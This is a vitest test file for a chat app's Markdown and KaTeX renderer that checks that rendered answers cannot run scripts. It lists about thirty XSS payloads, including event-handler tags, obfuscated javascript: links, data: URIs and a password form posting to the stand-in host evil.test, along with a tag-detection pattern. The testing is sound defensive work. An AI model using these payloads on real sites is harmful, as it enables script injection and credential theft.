import katex from "katex";
import { describe, expect, it } from "vitest";
import { OPTIONS } from "@/components/markdown/math";
import { shown } from "./shown";

const SCRIPTS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  "<details open ontoggle=alert(1)>x</details>",
  "<style>*{background:url(http://evil.test/)}</style>",
  '<form action="http://evil.test/"><input name=password></form>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](blob:http://evil.test/1)",
  "![x](javascript:alert(1))",
  '![x](http://evil.test/x.png"onerror="alert(1))',
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  '```"><img/src=x/onerror=alert(1)>\nx\n```',
  "```html\n</code></pre><script>alert(1)</script>\n```",
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
  "$$\\href{javascript:alert(1)}{x}$$",
  "\\(\\htmlData{x=<img src=x onerror=alert(1)>}{x}\\)",
  "- [ ] <input autofocus onfocus=alert(1)>",
];

const TAG = /<([a-z][a-z0-9]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g;
const HARMFUL = new Set([
  "script",
  "img",
  "svg",
  "iframe",
  "style",
  "form",
  "input",
  "details",
  "object",
  "embed",
]);

/** Return what in a page's HTML could run, or ask another server, by itself or by a click. */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const [tag, name, attributes] of html.matchAll(TAG)) {
    const icon = name === "svg" && attributes?.includes('aria-hidden="true"');
    if (HARMFUL.has(name ?? "") && !icon) found.push(tag);
    if (/\son[a-z]+=/i.test(attributes ?? "") || /\s(style|src|srcdoc)=/i.test(attributes ?? ""))
      found.push(tag);
    const href = /\shref="([^"]*)"/.exec(attributes ?? "")?.[1];
    if (href && !/^(https?:|mailto:|#)/.test(href)) found.push(tag);
  }
  return found;
}

/** Scripts in an answer's Markdown: Open WebUI, CVE-2026-44568 (made safe before it became HTML, not after). */
describe("XSS in Markdown", () => {
  it("would be seen", () => {
    for (const html of ['<img src="x">', '<a href="javascript:x">', '<b onclick="x">', "<script>"])
      expect(dangers(html)).toHaveLength(html.startsWith("<img") ? 2 : 1);
  });

  it.each(SCRIPTS)("%j is text", (source) => {
    expect(dangers(shown([source]))).toEqual([]);
  });

  it.each(SCRIPTS)("%j is text wherever its stream has got to", (source) => {
    for (let end = source.length; end > 0; end -= 5)
      expect(dangers(shown([source.slice(0, end)], { streaming: true }))).toEqual([]);
  });

  it.each([
    "\\href{javascript:alert(1)}{x}",
    "\\url{javascript:alert(1)}",
    "\\includegraphics{http://evil.test/x.png}",
    "\\htmlData{x=y}{x}",
    "\\htmlStyle{background:red}{x}",
    "\\text{<img src=x onerror=alert(1)>}",
  ])("the formula %j makes no link, no image and no attribute", (formula) => {
    const html = katex.renderToString(formula, { ...OPTIONS, throwOnError: false });
    expect(html).not.toMatch(
      /<(a|img|script)\b|<[^>]*\s(href|src|data-x|on\w+)=|style="[^"]*background/,
    );
  });

  it("leaves honest links and code what they are", () => {
    const html = shown(["[x](https://example.com/) and `<script>`"]);
    expect(html).toContain('href="https://example.com/"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain("&lt;script&gt;");
  });
});
